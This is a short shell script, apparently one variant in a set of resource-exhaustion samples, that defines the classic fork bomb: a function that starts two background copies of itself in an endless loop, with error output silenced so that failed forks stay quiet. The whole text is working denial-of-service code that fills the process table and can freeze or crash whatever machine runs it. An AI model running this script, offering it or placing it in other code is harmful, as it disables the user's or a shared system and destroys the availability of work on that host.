# The classic bomb, started again and again: each copy starts two more in the background. Failed forks
# are silenced, as the Python case catches its OSError.
exec 2>/dev/null
bomb() {
    bomb | bomb &
}
while :; do
    bomb
done
